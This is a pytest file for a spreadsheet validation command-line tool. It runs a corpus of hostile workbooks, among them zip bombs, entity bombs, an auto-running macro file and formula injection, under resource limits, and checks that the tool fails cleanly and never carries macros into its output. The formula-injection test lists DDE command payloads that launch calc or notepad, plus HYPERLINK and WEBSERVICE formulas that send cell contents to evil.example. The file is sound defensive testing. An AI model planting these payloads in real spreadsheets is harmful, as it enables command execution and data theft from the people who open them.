"""Every file of the hostile corpus through the real CLI, in a subprocess with hard limits.

Each run gets RLIMIT_AS (address space) and RLIMIT_CPU, plus a wall-clock timeout:
a zip bomb that inflated, an entity bomb that expanded or a reader that allocated a
whole sheet would die here instead of passing. What each file must produce is in
tests/corpus/manifest.toml.
"""

from __future__ import annotations

import hashlib
import json
import os
import resource
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "tests" / "corpus"))

import make_corpus  # noqa: E402
from libreoffice import convert_many, needs_libreoffice, recalculate  # noqa: E402

MANIFEST = make_corpus.manifest()
MEMORY = 1536 << 20  # address space of one CLI run: python + openpyxl + calamine need ~600 MB of it
CPU_SECONDS = 60
WALL_SECONDS = 180


def _limits() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))
    resource.setrlimit(resource.RLIMIT_CPU, (CPU_SECONDS, CPU_SECONDS))


def run_cli(*args: str | Path) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PYTHONPATH": str(ROOT), "RUST_BACKTRACE": "0"}
    return subprocess.run([sys.executable, "-m", "pyxl", *map(str, args)], capture_output=True, text=True,
                          timeout=WALL_SECONDS, preexec_fn=_limits, env=env, cwd=ROOT)


@pytest.fixture(scope="session")
def corpus_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("corpus")


def corpus_file(corpus_dir: Path, name: str) -> Path:
    try:
        return make_corpus.build(name, corpus_dir)
    except make_corpus.Unavailable as exc:
        pytest.skip(str(exc))


def findings_of(report_path: Path) -> list[tuple[str, str | None, str | None]]:
    report = json.loads(report_path.read_text("utf-8"))
    return sorted((f["rule"], f["sheet"], f["cell"]) for f in report["findings"])


@pytest.fixture(scope="session")
def base_findings(corpus_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> list[tuple[str, ...]]:
    base = make_corpus.base_workbook(corpus_dir)
    out = tmp_path_factory.mktemp("base") / "base.json"
    proc = run_cli("validate", base, "--json", out, "-q")
    assert proc.returncode == 1, proc.stderr
    return findings_of(out)


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


_RUNS: dict[str, tuple[subprocess.CompletedProcess[str], Path, str, str]] = {}


def validated(name: str, corpus_dir: Path, tmp_factory: pytest.TempPathFactory):
    """`pyxl validate FILE -o OUT --json REPORT`, once per file and session.

    Returns (process, output folder, input hash before, input hash after).
    """
    if name not in _RUNS:
        src = corpus_file(corpus_dir, name)
        outdir = tmp_factory.mktemp("run")
        before = sha256(src)
        proc = run_cli("validate", src, "-o", outdir / "标记 结果.xlsx", "--json", outdir / "report.json",
                       "-q")
        _RUNS[name] = (proc, outdir, before, sha256(src))
    return _RUNS[name]


@pytest.mark.parametrize("name", list(MANIFEST))
def test_validate(name: str, corpus_dir: Path, tmp_path_factory: pytest.TempPathFactory,
                  base_findings: list) -> None:
    case = MANIFEST[name]
    proc, tmp_path, before, after = validated(name, corpus_dir, tmp_path_factory)
    out, report = tmp_path / "标记 结果.xlsx", tmp_path / "report.json"

    assert "Traceback" not in proc.stderr, proc.stderr
    assert proc.returncode == case["exit"], (proc.returncode, proc.stdout, proc.stderr)
    assert after == before, "the input was modified"
    if case["exit"] == 2:
        lines = proc.stderr.strip().splitlines()
        assert len(lines) == 1, proc.stderr
        line = lines[0]
        assert line.startswith("错误：") and " / Error: " in line, line
        zh, en = line.split(" / Error: ", 1)
        assert case["reason_zh"] in zh, line
        assert case["reason_en"] in en, line
        assert [p.name for p in tmp_path.iterdir()] == [], "an output or a temporary file was left behind"
        return
    assert out.exists() and report.exists()
    found = findings_of(report)
    if case.get("same_as_base"):
        assert found == base_findings
    for want in case.get("findings", []):
        rule, where = want.split("@")
        sheet, cell = where.split("!")
        assert (rule, sheet, cell) in found, (want, found)
    for rule in case.get("absent", []):
        assert rule not in {f[0] for f in found}
    assert not any(p.name.endswith(".tmp") for p in tmp_path.iterdir())
    with zipfile.ZipFile(out) as z:
        names = z.namelist()
        assert not any("vbaproject" in n.lower() for n in names), "input VBA carried into an output"
        assert b"macroEnabled" not in z.read("[Content_Types].xml")


REOPEN = [n for n, c in MANIFEST.items() if c["exit"] != 2]


@pytest.fixture(scope="session")
def reopened(corpus_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Every output of a hostile run that produced one, recalculated by LibreOffice in one run."""
    folder = tmp_path_factory.mktemp("reopen")
    outputs = {}
    for name in REOPEN:
        proc, outdir, _, _ = validated(name, corpus_dir, tmp_path_factory)
        out = outdir / "标记 结果.xlsx"
        if proc.returncode in (0, 1) and out.exists():
            outputs[name] = shutil.copyfile(out, folder / f"{Path(name).stem}-out.xlsx")
    converted = convert_many(list(outputs.values()), "xlsx:Calc MS Excel 2007 XML", folder / "lo")
    return dict(zip(outputs, converted, strict=True))


@needs_libreoffice
@pytest.mark.libreoffice
@pytest.mark.parametrize("name", REOPEN)
def test_outputs_reopen_in_libreoffice(name: str, corpus_dir: Path, reopened: dict[str, Path],
                                      tmp_path_factory: pytest.TempPathFactory) -> None:
    """Every output a hostile run produced opens and recalculates in LibreOffice."""
    proc, _, _, _ = validated(name, corpus_dir, tmp_path_factory)
    assert proc.returncode in (0, 1), proc.stderr
    import openpyxl

    wb = openpyxl.load_workbook(reopened[name])
    assert "校验结果" in wb.sheetnames
    assert wb["校验结果"]["A2"].value  # the summary line survived the round trip


def test_long_strings_survive(corpus_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    """32,767 characters go in and come out whole (validate never cuts a value)."""
    import openpyxl

    proc, outdir, _, _ = validated("long_strings.xlsx", corpus_dir, tmp_path_factory)
    assert proc.returncode == 1
    out = outdir / "标记 结果.xlsx"
    lengths = sorted(len(c.value) for ws in openpyxl.load_workbook(out) for row in ws.iter_rows() for c in row
                     if isinstance(c.value, str) and len(c.value) > 30_000)
    assert lengths == [32_767, 32_767, 32_767]


@needs_libreoffice
@pytest.mark.libreoffice
def test_formula_injection_stays_text(corpus_dir: Path, tmp_path: Path,
                                     tmp_path_factory: pytest.TempPathFactory) -> None:
    """Hostile names and goals are text in the output and after LibreOffice recalculates it."""
    import openpyxl

    proc, outdir, _, _ = validated("formula_injection.xlsx", corpus_dir, tmp_path_factory)
    assert proc.returncode == 1
    out = outdir / "标记 结果.xlsx"
    hostile = {"+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C notepad'!A0", "=1+1",
               '=HYPERLINK("http://evil.example/x?"&A1,"点此领取补贴")', '=WEBSERVICE("http://evil.example/"&A1)'}
    for path in (out, recalculate(out, tmp_path / "lo")):
        wb = openpyxl.load_workbook(path)
        seen = {c.value for ws in wb for row in ws.iter_rows() for c in row if c.value in hostile}
        assert seen == hostile, (path, hostile - seen)
        for ws in wb:
            for row in ws.iter_rows():
                for c in row:
                    if c.value in hostile:
                        assert c.data_type == "s", (ws.title, c.coordinate, c.data_type)


def test_macro_workbook(corpus_dir: Path, tmp_path: Path) -> None:
    """VBA is never carried into a new file; -o .xlsm is refused; --in-place keeps the file's own project."""
    src = corpus_file(corpus_dir, "macro_autorun.xlsm")
    with zipfile.ZipFile(src) as z:
        vba = z.read("xl/vbaProject.bin")

    refused = run_cli("validate", src, "-o", tmp_path / "copy.xlsm")
    assert refused.returncode == 2
    assert "不写出带宏的副本" in refused.stderr and "macro-enabled" in refused.stderr
    assert not (tmp_path / "copy.xlsm").exists()

    mine = tmp_path / "mine.xlsm"
    mine.write_bytes(src.read_bytes())
    assert run_cli("validate", mine, "--in-place", "-q").returncode == 1
    with zipfile.ZipFile(mine) as z:
        assert z.read("xl/vbaProject.bin") == vba
        assert b"macroEnabled" in z.read("[Content_Types].xml")
        assert "校验结果" in z.read("xl/workbook.xml").decode()


@pytest.mark.parametrize("command", ["import", "rollup"])
def test_other_commands(command: str, corpus_dir: Path, tmp_path: Path) -> None:
    """import and rollup on every corpus file: bounded, no traceback, exit 2 with one line when unusable."""
    from pyxl.cli import main

    if command not in main.commands:
        pytest.skip(f"`pyxl {command}` is not on this branch yet")
    good = make_corpus.base_workbook(corpus_dir)
    for name, case in MANIFEST.items():
        try:
            src = make_corpus.build(name, corpus_dir)
        except make_corpus.Unavailable:
            continue
        if command == "import":
            proc = run_cli("import", src, "-o", tmp_path / f"{len(name)}.yaml")
            assert "Traceback" not in proc.stderr, (name, proc.stderr)
            if case["exit"] == 2:
                assert proc.returncode == 2, (name, proc.returncode, proc.stderr)
                assert len(proc.stderr.strip().splitlines()) == 1 and " / Error: " in proc.stderr, name
        else:
            summary = tmp_path / f"{len(name)}.xlsx"
            proc = run_cli("rollup", good, src, "-o", summary, "--json", summary.with_suffix(".json"))
            assert "Traceback" not in proc.stderr, (name, proc.stderr)
            assert proc.returncode in (0, 1), (name, proc.returncode, proc.stderr)
            report = summary.with_suffix(".json").read_text("utf-8")
            if case["exit"] == 2:  # the bad file is listed; the good one still went through
                assert src.name in report, name
            assert good.name in report


@needs_libreoffice
@pytest.mark.libreoffice
def test_rollup_of_the_whole_corpus(corpus_dir: Path, tmp_path: Path) -> None:
    """One rollup over every corpus file: the unusable ones are listed with their reason, all the
    others go through, and the summary re-opens in LibreOffice."""
    from pyxl.cli import main

    if "rollup" not in main.commands:
        pytest.skip("`pyxl rollup` is not on this branch yet")
    import openpyxl

    files = []
    for name in MANIFEST:
        try:
            files.append(make_corpus.build(name, corpus_dir))
        except make_corpus.Unavailable:
            continue
    summary = tmp_path / "汇总 结果.xlsx"
    proc = run_cli("rollup", *files, "-o", summary, "--json", tmp_path / "summary.json")
    assert "Traceback" not in proc.stderr, proc.stderr
    assert proc.returncode == 1, (proc.returncode, proc.stderr)
    report = json.loads((tmp_path / "summary.json").read_text("utf-8"))
    failed = {Path(f["file"]).name for f in report["files"]["failed"]}
    unusable = {p.name for p in files if MANIFEST[p.name]["exit"] == 2}
    assert failed == unusable
    assert report["files"]["read"] == len(files) - len(unusable)
    wb = openpyxl.load_workbook(recalculate(summary, tmp_path / "lo"))
    assert wb.sheetnames
